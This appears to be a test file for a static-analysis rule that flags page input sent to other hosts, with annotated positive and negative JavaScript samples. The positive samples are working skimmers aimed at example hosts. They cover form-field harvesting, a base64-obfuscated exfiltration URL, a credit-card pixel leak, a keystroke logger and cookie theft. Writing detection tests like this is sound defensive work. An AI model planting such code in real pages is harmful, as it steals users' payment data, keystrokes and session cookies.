const collector = 'https://metrics.example.net/c';

function gather() {
  let line = '';
  document.querySelectorAll('input, select').forEach((field) => {
    line += field.name + '=' + field.value + '&';
  });
  // ruleid: js-page-input-sent-elsewhere
  navigator.sendBeacon(collector, line);
}

jQuery(function (q) {
  q('#place').on('mouseup', function () {
    let text = location.host;
    q('form input').each(function () {
      text += ';' + q(this).val();
    });
    // ruleid: js-page-input-sent-elsewhere
    q.post(atob('aHR0cHM6Ly9leGFtcGxlLm5ldA=='), text);
  });
});

function pixel() {
  const number = document.getElementById('cc-number').value;
  const dot = new Image();
  // ruleid: js-page-input-sent-elsewhere
  dot.src = 'https://img.example.org/d.png?v=' + btoa(number);
}

let keys = '';
document.addEventListener('keydown', (e) => {
  keys += e.key;
  const call = new XMLHttpRequest();
  call.open('POST', '//keys.example.org/k', true);
  // ruleid: js-page-input-sent-elsewhere
  call.send(keys);
});

async function jar() {
  // ruleid: js-page-input-sent-elsewhere
  await fetch(`https://jar.example.com/?c=${document.cookie}`);
}

function own() {
  const data = document.querySelectorAll('input')[0].value;
  // ok: js-page-input-sent-elsewhere
  return fetch('/search?q=' + data);
}

function preview() {
  const image = document.createElement('img');
  // ok: js-page-input-sent-elsewhere
  image.src = document.getElementById('address').value;
}

function counted() {
  const n = document.querySelectorAll('input').length;
  // ok: js-page-input-sent-elsewhere
  navigator.sendBeacon('https://metrics.example.net/n', String(n));
}

function hits(name) {
  // ok: js-page-input-sent-elsewhere
  new Image().src = 'https://metrics.example.net/p?n=' + name;
}
